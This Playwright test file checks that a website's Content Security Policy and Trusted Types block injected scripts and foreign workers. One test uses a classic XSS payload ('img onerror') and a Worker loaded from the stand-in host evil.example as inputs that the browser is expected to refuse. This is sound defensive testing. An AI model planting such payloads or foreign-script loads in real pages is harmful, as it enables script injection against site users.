import { test, expect } from '../fixtures';

// Every e2e test fails on a `securitypolicyviolation` (tests/e2e/fixtures.ts), so the contract table, which loads
// every tool's example, and the route specs also prove that nothing the site does is blocked. These check the policy.

test('every page carries a strict policy: no eval, no inline script but the hashed theme script', async ({ page }) => {
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toBeTruthy();
  const directives = Object.fromEntries(policy!.split(';').map((d) => {
    const [name, ...values] = d.trim().split(/\s+/);
    return [name, values];
  }));
  expect(directives['default-src']).toEqual(["'self'"]);
  expect(directives['script-src']).toContain("'self'");
  expect(directives['script-src']).not.toContain("'unsafe-inline'");
  expect(directives['script-src']).not.toContain("'unsafe-eval'");
  expect(directives['script-src'].filter((v: string) => v.startsWith("'sha256-"))).toHaveLength(1);
  expect(directives['object-src']).toEqual(["'none'"]);
  expect(directives['worker-src']).toEqual(["'self'", 'blob:']);
});

// (eval cannot be tested from here: Playwright's own evaluation is exempt from the page's policy; test 1 checks that
// the policy does not allow it.)
test('the policy is enforced: an injected inline script is refused', async ({ page, errors }) => {
  await page.goto('/');
  // A script added by the page itself (the way an injection would) must not run.
  const outcome = await page.evaluate(() => {
    const w = window as unknown as { __injected?: boolean };
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    try {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true'; // Trusted Types refuse the string here…
      document.body.appendChild(script); // …and script-src would refuse the inline script anyway
    } catch {
      // refused
    }
    return new Promise<{ injected: boolean; violations: string[] }>((resolve) =>
      setTimeout(() => resolve({ injected: w.__injected === true, violations }), 100),
    );
  });
  expect(outcome.injected).toBe(false);
  expect(outcome.violations).toContain('require-trusted-types-for');
  // These violations are the test's own: once the browser has reported them, the fixture's guard must not count them.
  await expect.poll(() => errors.filter((e) => e.startsWith('console.error: CSP violation')).length).toBeGreaterThanOrEqual(1);
  errors.length = 0;
});

test('Trusted Types: HTML and foreign script URLs are refused; the site’s own workers are not', async ({ page, errors }) => {
  await page.goto('/');
  const outcome = await page.evaluate(() => {
    const attempt = (fn: () => void) => {
      try {
        fn();
        return 'allowed';
      } catch {
        return 'refused';
      }
    };
    return {
      html: attempt(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
      }),
      foreignWorker: attempt(() => new Worker('https://evil.example/w.js')),
      ownWorker: attempt(() => new Worker(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))).terminate()),
    };
  });
  expect(outcome).toEqual({ html: 'refused', foreignWorker: 'refused', ownWorker: 'allowed' });
  await expect.poll(() => errors.filter((e) => e.startsWith('console.error: CSP violation')).length).toBeGreaterThanOrEqual(1);
  errors.length = 0;
});

test('the theme script runs under the policy: a stored dark theme applies before the app loads', async ({ page }) => {
  await page.addInitScript(() => localStorage.setItem('theme', 'dark'));
  await page.goto('/', { waitUntil: 'commit' });
  await page.waitForFunction(() => document.readyState !== 'loading');
  expect(await page.evaluate(() => document.documentElement.classList.contains('dark'))).toBe(true);
});
